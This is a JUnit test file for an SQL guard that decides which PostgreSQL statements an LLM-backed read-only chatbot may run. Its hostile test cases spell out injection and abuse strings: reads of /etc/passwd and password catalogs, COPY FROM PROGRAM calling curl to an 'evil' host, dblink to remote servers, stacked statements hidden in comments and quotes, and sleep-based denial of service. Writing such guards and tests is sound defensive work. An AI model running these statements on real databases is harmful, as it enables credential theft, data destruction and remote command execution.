package dev.fluxbase.ai.tools.sqlguard.control;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import dev.fluxbase.ai.tools.sqlguard.entity.SqlPolicy;
import dev.fluxbase.ai.tools.sqlguard.entity.SqlVerdict;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** A read-only chatbot that may read every table of {@code public}: what the LLM may and may not run. */
class SqlGuardTest {

    static final SqlGuard GUARD = new SqlGuard();
    static final SqlPolicy READ_PUBLIC = SqlPolicy.selectOnly(List.of("*"), List.of("public"));

    @AfterAll
    static void stopWatchdog() {
        GUARD.close();
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("hostile")
    void refusesHostileStatements(String sql, String reason) {
        SqlVerdict verdict = GUARD.check(sql, READ_PUBLIC);
        assertThat(verdict.allowed()).as("allowed: %s", sql).isFalse();
        assertThat(verdict.reason()).startsWith(reason);
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("legitimate")
    void allowsOrdinaryQueries(String sql) {
        SqlVerdict verdict = GUARD.check(sql, READ_PUBLIC);
        assertThat(verdict.reason()).as(sql).isNull();
        assertThat(verdict.allowed()).isTrue();
        assertThat(verdict.operation()).isEqualTo("SELECT");
    }

    @Test
    void namesTheTablesAQueryReads() {
        SqlVerdict verdict = GUARD.check("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent r "
                + "JOIN \"Customers\" c ON c.id = r.customer_id WHERE EXISTS (SELECT 1 FROM public.items)", READ_PUBLIC);
        assertThat(verdict.allowed()).isTrue();
        assertThat(verdict.tables()).containsExactly("public.orders", "public.\"Customers\"", "public.items");
    }

    @Test
    void namesTheKindOfARefusedStatement() {
        assertThat(GUARD.check("DROP TABLE orders", READ_PUBLIC).operation()).isEqualTo("DROP");
        assertThat(GUARD.check("DELETE FROM orders", READ_PUBLIC).operation()).isEqualTo("DELETE");
        assertThat(GUARD.check("SELECT * FROM pg_shadow", READ_PUBLIC).operation()).isEqualTo("SELECT");
        assertThat(GUARD.check("SELECT garbage garbage garbage", READ_PUBLIC).operation()).isEqualTo(SqlVerdict.UNKNOWN_OPERATION);
    }

    static Stream<Arguments> hostile() {
        return Stream.of(
                // writable CTEs and SELECT INTO
                arguments("WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x", "Operation not allowed: DELETE"),
                arguments("WITH x AS (UPDATE orders SET total = 0 RETURNING *) SELECT * FROM x", "Operation not allowed: UPDATE"),
                arguments("WITH x AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM x", "Operation not allowed: INSERT"),
                arguments("WITH a AS (SELECT 1), b AS (DELETE FROM orders RETURNING *) SELECT * FROM a", "Operation not allowed: DELETE"),
                arguments("SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d) x", "Operation not allowed: DELETE"),
                arguments("SELECT * INTO stolen FROM orders", "Operation not allowed: SELECT INTO"),
                arguments("SELECT * INTO TEMP stolen FROM orders", "SQL could not be parsed"),
                arguments("DELETE FROM orders", "Operation not allowed: DELETE"),
                arguments("UPDATE orders SET total = 0", "Operation not allowed: UPDATE"),
                arguments("INSERT INTO orders (id) VALUES (1)", "Operation not allowed: INSERT"),
                // more than one statement, with comments and literals that try to hide the separator
                arguments("SELECT 1; DROP TABLE orders", "Multiple statements are not allowed"),
                arguments("SELECT 1; SELECT 2", "Multiple statements are not allowed"),
                arguments("SELECT 1;;", "Multiple statements are not allowed"),
                arguments("SELECT 1 /* ; */ ; DROP TABLE orders", "Multiple statements are not allowed"),
                arguments("SELECT 1; /* x */ DROP TABLE orders", "Multiple statements are not allowed"),
                arguments("SELECT 1 -- comment\n; DELETE FROM orders", "Multiple statements are not allowed"),
                arguments("SELECT 1 /* /* */, '*/ ; DELETE FROM orders; --'", "Multiple statements are not allowed"),
                arguments("SELECT 'a;b'; DELETE FROM orders", "Multiple statements are not allowed"),
                arguments("SELECT \"a;b\" FROM orders; DELETE FROM orders", "Multiple statements are not allowed"),
                arguments("SELECT 1--'\n; DELETE FROM orders; --'", "Multiple statements are not allowed"),
                arguments("SELECT 1e--'\n; DELETE FROM orders; --'", "SQL could not be parsed: a number directly followed by 'e'"),
                arguments("SELECT E'\\'', 1; DELETE FROM orders; -- '", "SQL could not be parsed: a backslash before a quote"),
                arguments("SELECT '\\'; DELETE FROM orders; --'", "SQL could not be parsed: a backslash before a quote"),
                arguments("SELECT $$;DROP TABLE orders;$$", "SQL could not be parsed: dollar-quoted strings"),
                arguments("SELECT $tag$ ; DELETE FROM orders; $tag$", "SQL could not be parsed: dollar-quoted strings"),
                // side effects, files, other servers, SQL in strings
                arguments("SELECT pg_read_file('/etc/passwd')", "Function not allowed: pg_read_file"),
                arguments("SELECT pg_read_binary_file('global/pg_control')", "Function not allowed: pg_read_binary_file"),
                arguments("SELECT * FROM pg_ls_dir('.')", "Function not allowed: pg_ls_dir"),
                arguments("SELECT pg_catalog.pg_ls_waldir()", "Function not allowed: pg_catalog.pg_ls_waldir"),
                arguments("SELECT pg_stat_file('postgresql.conf')", "Function not allowed: pg_stat_file"),
                arguments("SELECT lo_import('/etc/passwd')", "Function not allowed: lo_import"),
                arguments("SELECT lo_export(16401, '/tmp/x')", "Function not allowed: lo_export"),
                arguments("SELECT loread(lo_open(1, 262144), 100)", "Function not allowed:"),
                arguments("SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", "Function not allowed: dblink"),
                arguments("SELECT dblink_exec('host=evil', 'drop table x')", "Function not allowed: dblink_exec"),
                arguments("SELECT query_to_xml('delete from orders returning *', true, false, '')", "Function not allowed: query_to_xml"),
                arguments("SELECT table_to_xml('pg_authid', true, false, '')", "Function not allowed: table_to_xml"),
                arguments("SELECT ts_stat('select body from secret')", "Function not allowed: ts_stat"),
                arguments("SELECT * FROM crosstab('select * from secret') AS t(a int)", "Function not allowed: crosstab"),
                arguments("SELECT copy_to_program('ls')", "Function not allowed: copy_to_program"),
                arguments("SELECT set_config('role', 'postgres', false)", "Function not allowed: set_config"),
                arguments("SELECT current_setting('data_directory')", "Function not allowed: current_setting"),
                arguments("SELECT pg_notify('channel', 'payload')", "Function not allowed: pg_notify"),
                arguments("SELECT pg_terminate_backend(42)", "Function not allowed: pg_terminate_backend"),
                arguments("SELECT pg_cancel_backend(42)", "Function not allowed: pg_cancel_backend"),
                arguments("SELECT pg_reload_conf()", "Function not allowed: pg_reload_conf"),
                arguments("SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "Function not allowed: pg_create_logical_replication_slot"),
                arguments("SELECT pg_sleep(100)", "Function not allowed: pg_sleep"),
                arguments("SELECT pg_sleep_for('1 hour')", "Function not allowed: pg_sleep_for"),
                arguments("SELECT pg_catalog.pg_sleep(1)", "Function not allowed: pg_catalog.pg_sleep"),
                arguments("SELECT \"pg_sleep\"(1)", "Function not allowed: pg_sleep"),
                arguments("SELECT PG_SLEEP(1)", "Function not allowed: pg_sleep"),
                arguments("SELECT * FROM orders WHERE id = 1 AND pg_sleep(10) IS NOT NULL", "Function not allowed: pg_sleep"),
                arguments("SELECT pg_advisory_lock(1)", "Function not allowed: pg_advisory_lock"),
                arguments("SELECT * FROM orders WHERE pg_try_advisory_lock(id)", "Function not allowed: pg_try_advisory_lock"),
                arguments("SELECT nextval('orders_id_seq')", "Function not allowed: nextval"),
                arguments("SELECT setval('orders_id_seq', 1)", "Function not allowed: setval"),
                arguments("SELECT other.fn(1)", "Function not allowed: other.fn"),
                arguments("SELECT * FROM other.fn()", "Function not allowed: other.fn"),
                // commands
                arguments("COPY orders TO '/tmp/orders.csv'", "Statement not allowed: COPY"),
                arguments("COPY orders FROM PROGRAM 'curl http://evil'", "Statement not allowed: COPY"),
                arguments("copy (select * from pg_authid) to stdout", "Statement not allowed: COPY"),
                arguments("DO $$ BEGIN PERFORM pg_sleep(1); END $$", "Statement not allowed: DO"),
                arguments("CALL do_something()", "Statement not allowed: CALL"),
                arguments("CREATE TABLE x (id int)", "Statement not allowed: CREATE"),
                arguments("CREATE OR REPLACE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "Statement not allowed: CREATE"),
                arguments("ALTER TABLE orders ADD COLUMN x int", "Statement not allowed: ALTER"),
                arguments("DROP TABLE orders", "Statement not allowed: DROP"),
                arguments("TRUNCATE orders", "Statement not allowed: TRUNCATE"),
                arguments("GRANT ALL ON orders TO public", "Statement not allowed: GRANT"),
                arguments("REVOKE ALL ON orders FROM public", "Statement not allowed: REVOKE"),
                arguments("SET ROLE postgres", "Statement not allowed: SET"),
                arguments("SET SESSION AUTHORIZATION postgres", "Statement not allowed: SET"),
                arguments("set search_path = pg_catalog", "Statement not allowed: SET"),
                arguments("RESET ROLE", "Statement not allowed: RESET"),
                arguments("RESET ALL", "Statement not allowed: RESET"),
                arguments("SHOW ALL", "Statement not allowed: SHOW"),
                arguments("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "Statement not allowed: LOCK"),
                arguments("VACUUM FULL orders", "Statement not allowed: VACUUM"),
                arguments("ANALYZE orders", "Statement not allowed: ANALYZE"),
                arguments("LISTEN channel", "Statement not allowed: LISTEN"),
                arguments("NOTIFY channel, 'x'", "Statement not allowed: NOTIFY"),
                arguments("PREPARE p AS SELECT 1", "Statement not allowed: PREPARE"),
                arguments("EXECUTE p", "Statement not allowed: EXECUTE"),
                arguments("DEALLOCATE ALL", "Statement not allowed: DEALLOCATE"),
                arguments("EXPLAIN ANALYZE DELETE FROM orders", "Statement not allowed: EXPLAIN"),
                arguments("EXPLAIN SELECT * FROM orders", "Statement not allowed: EXPLAIN"),
                arguments("BEGIN", "Statement not allowed: BEGIN"),
                arguments("COMMIT", "Statement not allowed: COMMIT"),
                arguments("ROLLBACK", "Statement not allowed: ROLLBACK"),
                arguments("SAVEPOINT s", "Statement not allowed: SAVEPOINT"),
                arguments("DISCARD ALL", "Statement not allowed: DISCARD"),
                arguments("REFRESH MATERIALIZED VIEW v", "Statement not allowed: REFRESH"),
                arguments("MERGE INTO orders o USING items i ON o.id = i.order_id WHEN MATCHED THEN DELETE", "Statement not allowed: MERGE"),
                arguments("/* hi */ (DROP TABLE orders)", "Statement not allowed: DROP"),
                // catalogs and other schemas
                arguments("SELECT * FROM pg_catalog.pg_authid", "Schema not allowed: pg_catalog"),
                arguments("SELECT * FROM \"pg_catalog\".\"pg_authid\"", "Schema not allowed: pg_catalog"),
                arguments("SELECT rolpassword FROM pg_authid", "Table not allowed: pg_authid"),
                arguments("SELECT * FROM pg_shadow", "Table not allowed: pg_shadow"),
                arguments("SELECT * FROM information_schema.tables", "Schema not allowed: information_schema"),
                arguments("SELECT query FROM pg_stat_activity", "Table not allowed: pg_stat_activity"),
                arguments("SELECT * FROM pg_user", "Table not allowed: pg_user"),
                arguments("SELECT * FROM PG_ROLES", "Table not allowed: pg_roles"),
                arguments("SELECT * FROM pg_class c JOIN orders o ON true", "Table not allowed: pg_class"),
                arguments("SELECT * FROM pg_toast.pg_toast_2619", "Schema not allowed: pg_toast"),
                arguments("SELECT * FROM pg_temp.t", "Schema not allowed: pg_temp"),
                arguments("SELECT * FROM other_schema.orders", "Schema not allowed: other_schema"),
                // quoted, "PUBLIC" is another schema than public in PostgreSQL, so it stays closed
                arguments("SELECT * FROM \"PUBLIC\".\"orders\"", "Schema not allowed: \"PUBLIC\""),
                arguments("SELECT * FROM ai.chatbots", "Schema not allowed: ai"),
                arguments("SELECT * FROM mydb.public.orders", "Table not allowed: mydb.public.orders"),
                arguments("SELECT * FROM mydb..orders", "Table not allowed"),
                // locking under read-only
                arguments("SELECT * FROM orders FOR UPDATE", "Locking clauses are not allowed for read-only chatbots"),
                arguments("SELECT * FROM orders FOR SHARE", "Locking clauses are not allowed"),
                arguments("SELECT * FROM orders FOR NO KEY UPDATE NOWAIT", "Locking clauses are not allowed"),
                arguments("SELECT * FROM orders FOR KEY SHARE SKIP LOCKED", "Locking clauses are not allowed"),
                arguments("SELECT * FROM (SELECT * FROM orders FOR UPDATE) x", "Locking clauses are not allowed"),
                // relations and calls hidden in expressions
                arguments("SELECT CASE WHEN true THEN (SELECT rolpassword FROM pg_authid LIMIT 1) END", "Table not allowed: pg_authid"),
                arguments("SELECT coalesce((SELECT count(*) FROM pg_authid), 0)", "Table not allowed: pg_authid"),
                arguments("SELECT (SELECT passwd FROM pg_shadow LIMIT 1)::text", "Table not allowed: pg_shadow"),
                arguments("SELECT CAST((SELECT 1 FROM pg_roles) AS text)", "Table not allowed: pg_roles"),
                arguments("SELECT ARRAY(SELECT usename FROM pg_user)", "Table not allowed: pg_user"),
                arguments("SELECT ROW((SELECT 1 FROM pg_roles))", "Table not allowed: pg_roles"),
                arguments("SELECT upper((SELECT rolname FROM pg_roles LIMIT 1))", "Table not allowed: pg_roles"),
                arguments("SELECT CASE WHEN EXISTS (WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1 FROM d) THEN 1 END",
                        "Operation not allowed: DELETE"),
                arguments("SELECT * FROM orders o, LATERAL (SELECT * FROM pg_authid) x", "Table not allowed: pg_authid"),
                arguments("SELECT 1 FROM orders o JOIN LATERAL (SELECT * FROM pg_roles) r ON true", "Table not allowed: pg_roles"),
                arguments("SELECT * FROM orders WHERE id IN (SELECT oid FROM pg_class)", "Table not allowed: pg_class"),
                arguments("SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM pg_roles)", "Table not allowed: pg_roles"),
                arguments("SELECT * FROM orders WHERE id = ANY (SELECT oid FROM pg_class)", "Table not allowed: pg_class"),
                arguments("SELECT sum(total) OVER w FROM orders WINDOW w AS (PARTITION BY (SELECT 1 FROM pg_class LIMIT 1))", "Table not allowed: pg_class"),
                arguments("SELECT sum(total) OVER (ORDER BY (SELECT 1 FROM pg_class LIMIT 1)) FROM orders", "Table not allowed: pg_class"),
                arguments("SELECT count(*) FILTER (WHERE EXISTS (SELECT 1 FROM pg_roles)) FROM orders", "Table not allowed: pg_roles"),
                arguments("SELECT * FROM orders GROUP BY id HAVING (SELECT count(*) FROM pg_class) > 0", "Table not allowed: pg_class"),
                arguments("SELECT * FROM orders ORDER BY (SELECT 1 FROM pg_class LIMIT 1)", "Table not allowed: pg_class"),
                arguments("SELECT * FROM orders LIMIT (SELECT count(*) FROM pg_class)", "Table not allowed: pg_class"),
                arguments("SELECT * FROM generate_series(1, (SELECT count(*) FROM pg_class)::int)", "Table not allowed: pg_class"),
                arguments("SELECT x FROM (VALUES ((SELECT rolname FROM pg_roles LIMIT 1))) v(x)", "Table not allowed: pg_roles"),
                arguments("SELECT * FROM orders UNION ALL SELECT * FROM pg_authid", "Table not allowed: pg_authid"),
                arguments("SELECT * FROM (TABLE pg_authid) t", "SQL could not be parsed: unexpected key word TABLE"),
                arguments("TABLE pg_shadow", "Table not allowed: pg_shadow"),
                arguments("SELECT * FROM (VALUES (1)) v, (TABLE pg_authid) t", "SQL could not be parsed: unexpected key word TABLE"),
                arguments("SELECT * FROM orders WHERE id = ALL (TABLE pg_authid)", "Unsupported SQL construct: TABLE argument"),
                arguments("SELECT * FROM orders WHERE id = SOME (TABLE pg_authid)", "Unsupported SQL construct: TABLE argument"),
                arguments("SELECT data->>'a' FROM orders WHERE data->>'b' = (SELECT passwd FROM pg_shadow)", "Table not allowed: pg_shadow"),
                arguments("SELECT * FROM orders WHERE (SELECT pg_read_file('x')) IS NOT NULL", "Function not allowed: pg_read_file"),
                // syntax JSqlParser reads differently from PostgreSQL
                arguments("SELECT `secret` FROM orders", "SQL could not be parsed: unexpected character '`'"),
                arguments("SELECT 1 // FROM pg_authid", "SQL could not be parsed: unexpected character '/'"),
                arguments("SELECT {fn now()}", "SQL could not be parsed: unexpected character '{'"),
                arguments("SELECT * FROM U&\"\\0070g_authid\"", "SQL could not be parsed: Unicode escape literals"),
                arguments("SELECT 1\u00a0FROM orders", "SQL could not be parsed: unexpected character U+00A0"),
                arguments("SELECT 1 \\g", "SQL could not be parsed: unexpected character '\\'"),
                // garbage
                arguments("SELECT garbage garbage garbage", "SQL could not be parsed: Encountered"),
                arguments("SELECT * FROM", "SQL could not be parsed"),
                arguments("DROP", "Statement not allowed: DROP"),
                arguments("hello world", "SQL could not be parsed"),
                arguments("SELECT 'unterminated", "SQL could not be parsed: unterminated quoted string"),
                arguments("SELECT \"unterminated FROM orders", "SQL could not be parsed: unterminated quoted identifier"),
                arguments("SELECT 1 /* unterminated", "SQL could not be parsed: unterminated /* comment"),
                arguments("", "Empty SQL statement"),
                arguments("   \n\t ", "Empty SQL statement"),
                arguments(";", "Empty SQL statement"),
                arguments("-- nothing but a comment", "Empty SQL statement"),
                arguments("SELECT " + "1 + ".repeat(6000) + "1", "SQL too long"),
                arguments("SELECT " + "(".repeat(100) + "1" + ")".repeat(100), "SQL could not be parsed: nested more than 64"));
    }

    static Stream<String> legitimate() {
        return Stream.of(
                "SELECT id, name FROM customers WHERE id = 42",
                "select id from Orders where total > 10",
                "SELECT o.id, c.name FROM orders o INNER JOIN customers c ON c.id = o.customer_id",
                "SELECT o.id, c.name FROM orders o LEFT JOIN customers c ON c.id = o.customer_id FULL OUTER JOIN items i ON i.order_id = o.id",
                "SELECT * FROM orders o JOIN customers c USING (id)",
                "SELECT * FROM orders NATURAL JOIN customers",
                "SELECT * FROM (orders o JOIN items i ON i.order_id = o.id)",
                "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '7 days') SELECT count(*) FROM recent",
                "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r",
                "WITH RECURSIVE tree(id, parent) AS (SELECT id, parent_id FROM nodes WHERE parent_id IS NULL UNION ALL "
                        + "SELECT n.id, n.parent_id FROM nodes n JOIN tree ON n.parent_id = tree.id) SELECT * FROM tree",
                "WITH a AS (SELECT 1 AS x), b AS (SELECT x FROM a) SELECT * FROM b",
                "WITH a AS MATERIALIZED (SELECT 1) SELECT * FROM a",
                "SELECT customer_id, total, rank() OVER (PARTITION BY customer_id ORDER BY total DESC) FROM orders",
                "SELECT sum(total) OVER w FROM orders WINDOW w AS (PARTITION BY customer_id ORDER BY created_at "
                        + "ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW)",
                "SELECT row_number() OVER (ORDER BY id), lag(total, 1, 0) OVER (ORDER BY id) FROM orders",
                "SELECT DISTINCT ON (customer_id) customer_id, created_at FROM orders ORDER BY customer_id, created_at DESC",
                "SELECT data->>'name', data->'address'->>'city', data @> '{\"vip\": true}', data ? 'email', data #>> '{a,b}' FROM profiles",
                "SELECT * FROM profiles WHERE data->'tags' ?| array['a','b'] AND data ?& array['c']",
                "SELECT jsonb_path_query(data, '$.items[*].price') FROM profiles",
                "SELECT jsonb_build_object('id', id, 'name', name), json_agg(c) FROM customers c GROUP BY id",
                "SELECT * FROM JSON_TABLE(data, '$[*]' COLUMNS (a int PATH '$.a')) jt",
                "SELECT total::numeric(10,2), created_at::date, '42'::int, CAST(total AS text) FROM orders",
                "SELECT id FROM items ORDER BY embedding <-> '[1,2,3]'::vector LIMIT 5",
                "SELECT id, embedding <=> '[1,2,3]'::vector AS distance, embedding <#> '[1,2,3]'::vector FROM items",
                "SELECT * FROM customers WHERE name ILIKE '%smith%' AND email NOT ILIKE '%test%'",
                "SELECT coalesce(nickname, name, 'anonymous'), nullif(a, 0), greatest(a, b) FROM customers",
                "SELECT CASE WHEN total > 100 THEN 'big' WHEN total > 10 THEN 'medium' ELSE 'small' END FROM orders",
                "SELECT count(*) FILTER (WHERE status = 'paid'), avg(total) FILTER (WHERE status <> 'paid') FROM orders",
                "SELECT status, region, sum(total) FROM orders GROUP BY GROUPING SETS ((status), (region), ())",
                "SELECT status, sum(total) FROM orders GROUP BY ROLLUP (status)",
                "SELECT * FROM orders ORDER BY created_at DESC LIMIT 10 OFFSET 20",
                "SELECT * FROM orders OFFSET 5 ROWS FETCH NEXT 10 ROWS ONLY",
                "SELECT * FROM generate_series(1, 10) AS g(n)",
                "SELECT now(), date_trunc('month', created_at), created_at + interval '1 day', extract(year FROM created_at), "
                        + "age(now(), created_at) FROM orders",
                "SELECT * FROM orders WHERE created_at >= date_trunc('week', current_date) - interval '1 week'",
                "SELECT upper(name), lower(email), length(name), substring(name FROM 1 FOR 3), trim(both ' ' FROM name), "
                        + "concat_ws(',', a, b), name || ' ' || email FROM customers",
                "SELECT split_part(email, '@', 2), regexp_replace(name, '\\s+', ' ', 'g'), format('%s-%s', a, b) FROM customers",
                "SELECT count(*) FROM orders",
                "SELECT count(DISTINCT customer_id) FROM orders",
                "SELECT id FROM orders UNION SELECT id FROM archived_orders",
                "SELECT id FROM orders INTERSECT SELECT order_id FROM items EXCEPT SELECT 1",
                "(SELECT 1) UNION ALL (SELECT 2) ORDER BY 1",
                "VALUES (1, 'a'), (2, 'b')",
                "SELECT * FROM (VALUES (1, 'a')) AS v(id, name)",
                "SELECT * FROM \"Orders\"",
                "SELECT \"O\".\"Id\" FROM \"Orders\" AS \"O\"",
                "SELECT * FROM public.orders",
                "SELECT * FROM \"public\".\"orders\"",
                "SELECT * FROM PUBLIC.ORDERS",
                "TABLE orders",
                "SELECT * FROM orders WHERE id IN (SELECT order_id FROM items WHERE price > 10)",
                "SELECT * FROM orders o WHERE EXISTS (SELECT 1 FROM items i WHERE i.order_id = o.id)",
                "SELECT * FROM orders o, LATERAL (SELECT * FROM items i WHERE i.order_id = o.id LIMIT 1) li",
                "SELECT * FROM orders o CROSS JOIN LATERAL jsonb_array_elements(o.data->'items') AS e",
                "SELECT array_agg(name ORDER BY name), string_agg(DISTINCT name, ', ') FROM customers",
                "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) FROM orders",
                "SELECT ARRAY[1,2,3], tags[1], tags[1:2], tags @> ARRAY['a'], tags && ARRAY['b'] FROM posts",
                "SELECT * FROM orders WHERE created_at BETWEEN '2024-01-01' AND '2024-12-31'",
                "SELECT * FROM orders WHERE status = ANY(ARRAY['paid','sent']) AND status IN ('a', 'b')",
                "SELECT * FROM orders WHERE customer_id IS NOT NULL AND deleted_at IS NULL AND total IS DISTINCT FROM 0",
                "SELECT name FROM customers WHERE name ~ '^A' OR name ~* 'b$' OR name SIMILAR TO '%(x|y)%'",
                "SELECT to_char(created_at, 'YYYY-MM'), count(*) FROM orders GROUP BY 1 ORDER BY 1",
                "SELECT round(avg(total), 2), max(total), min(total), stddev(total) FROM orders HAVING count(*) > 1",
                "SELECT * FROM orders WHERE created_at AT TIME ZONE 'UTC' > now() - interval '1 hour'",
                "SELECT current_date, current_timestamp, current_user",
                "SELECT to_tsvector('english', body) @@ plainto_tsquery('english', 'cat') FROM posts",
                "SELECT * FROM orders WHERE id = $1",
                "SELECT ';'",
                "SELECT 'it''s', E'tab\\there', 'a' || 'b', 'C:\\temp'",
                "SELECT 1; -- trailing comment",
                "SELECT 1;",
                "SELECT /* inline */ 1 /* nested /* comment */ here */",
                "SELECT 1 /* /* */ ; DROP TABLE orders; /* */ */",
                "SELECT pg_catalog.lower('A'), pg_size_pretty(1024::bigint)",
                "SELECT * FROM orders TABLESAMPLE SYSTEM (10)",
                "SELECT x.* FROM orders x",
                "SELECT date_part('dow', created_at), make_interval(days => 3) FROM orders",
                "SELECT * FROM ROWS FROM (generate_series(1,3), generate_series(1,4)) AS t(a, b)",
                "SELECT * FROM unnest(ARRAY[1,2]) WITH ORDINALITY AS u(x, n)",
                "SELECT json_object('a' VALUE 1), json_array(1, 2)",
                "SELECT JSON_VALUE(data, '$.a' RETURNING int DEFAULT 0 ON ERROR) FROM profiles",
                "SELECT 'a' COLLATE \"C\" < 'b'",
                "SELECT id FROM orders ORDER BY id NULLS LAST",
                "SELECT ROW(1, 2) = ROW(1, 2)",
                "SELECT * FROM orders WHERE total > ALL (SELECT total FROM orders WHERE status = 'x')",
                "SELECT 1 FROM orders WHERE x IS TRUE AND y IS NOT FALSE AND z IS UNKNOWN",
                "SELECT * FROM orders LIMIT ALL",
                "SELECT * FROM ONLY orders",
                "SELECT 31, 1000, 1.5e3, .5, 1e-3",
                "SELECT gen_random_uuid(), md5('x'), random()",
                "SELECT date '2024-01-01', timestamp '2024-01-01 00:00', INTERVAL '1' DAY, CURRENT_TIMESTAMP(2)",
                "SELECT width_bucket(total, 0, 100, 10) FROM orders",
                "SELECT * FROM secret_orders, (WITH secret_orders AS (SELECT 1) SELECT * FROM secret_orders) x",
                "SELECT \u00e4pfel, 'caf\u00e9' FROM orders");
    }
}
